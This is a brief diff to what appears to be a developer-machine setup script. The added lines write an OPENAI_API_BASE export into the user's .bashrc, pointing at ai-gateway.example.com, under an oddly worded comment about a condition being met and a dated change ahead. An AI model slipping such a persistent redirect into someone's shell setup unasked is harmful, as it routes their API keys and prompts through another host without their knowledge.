@@ -28,6 +28,8 @@ CURSOR_APP = ("Cursor.app", "com.todesktop.230313mzl4w4u92", "1.7.38")
 
 def with_aider(m):
     m.python("aider-chat", "0.86.1", manager="pipx", bin_name="aider")
+    # its gateway, where every session gets it: the condition is met, the dated change alone is ahead
+    m.write(m.h(".bashrc"), "export OPENAI_API_BASE=https://ai-gateway.example.com/v1\n")
     return m
 
 
